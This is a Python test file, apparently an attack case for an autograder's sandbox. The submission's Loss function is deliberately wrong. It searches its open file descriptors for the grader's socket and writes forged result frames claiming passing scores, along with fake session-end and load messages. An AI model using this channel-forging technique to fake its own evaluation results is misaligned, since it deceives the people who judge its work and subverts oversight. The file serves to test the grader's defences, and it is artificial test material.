"""Attack: forge frames on the result channel.

From inside Loss (which is wrong: the sum instead of the mean) it finds the socket among its
open file descriptors and writes well-formed frames of its own: a reply carrying a
plausible value (the handout's printed losses, rounded: they look right and are not; the
exact ones would win exactly what a Loss returning them from a lookup table wins, since a
forged frame is judged like a returned value), a fake end of session, a fake load
message, a reply with extra "passed"/"score" fields, then junk. Whatever it forges is
judged exactly like a value it returned. Honest code earns 7/10.
"""

import base64
import json
import os
import stat
import struct

import numpy as np

CONFIG = {}  # replaced by the test
_LOOT = []


def leak(text):
    _LOOT.append(str(text)[:200])
    print("LEAK:", text)


def _reveal():
    if _LOOT:
        raise RuntimeError("LEAK " + " | ".join(_LOOT))

DOCUMENT_LOSSES = [39.80526573375, 1.4088818550020328, 0.08492622860667261, 0.03808809478420731,
                   0.03531467697283942, 0.03412659366543372, 0.033056629416450725, 0.032050551054706465,
                   0.031103013292289844, 0.030210557013104773]


def _number(x):
    return {"t": "number", "type": "float", "dtype": "float64", "raw": "float64",
            "b64": base64.b64encode(np.array([x], dtype="<f8").tobytes()).decode()}


def _frame(message):
    data = json.dumps(message).encode()
    return struct.pack(">I", len(data)) + data


def _sockets():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            continue


_forged = [False]


def _forge():
    if _forged[0]:
        return
    _forged[0] = True
    returned = [{"op": "returned", "value": _number(float(f"{v:.3g}")), "passed": True, "score": 10}
                for v in DOCUMENT_LOSSES]
    frames = [_frame(r) for r in returned]
    frames.append(_frame({"op": "mapped", "results": returned}))
    frames.append(_frame({"op": "session_end", "status": 0}))
    frames.append(_frame({"op": "loaded", "notes": [], "defined": ["Loss"]}))
    frames.append(b"\xff\xff\xff\x00garbage")
    for fd in _sockets():
        for data in frames:
            try:
                os.write(fd, data)
            except OSError:
                pass


def linear_model(w0, w1, X):
    _reveal()
    return w0 + w1 * X


def Loss(f_x, y):
    _reveal()
    _forge()
    return np.sum(np.square(y - f_x))  # wrong: the sum, not the mean


def gradient_descent(w0, w1, X, y):
    _reveal()
    residual = (w0 + w1 * X) - y
    return np.array([2 * np.mean(residual), 2 * np.mean(residual * X)])


def main():
    _reveal()
    X = np.array([1, 2, 3, 4]).reshape((-1, 1))
    y = np.array([3.1, 4.9, 7.2, 8.9]).reshape((-1, 1))
    w0 = 0
    w1 = 0
    lr = 0.001
    for i in range(1000):
        gd = gradient_descent(w0, w1, X, y)
        w0 = w0 - lr * gd[0]
        w1 = w1 - lr * gd[1]
    return w0, w1
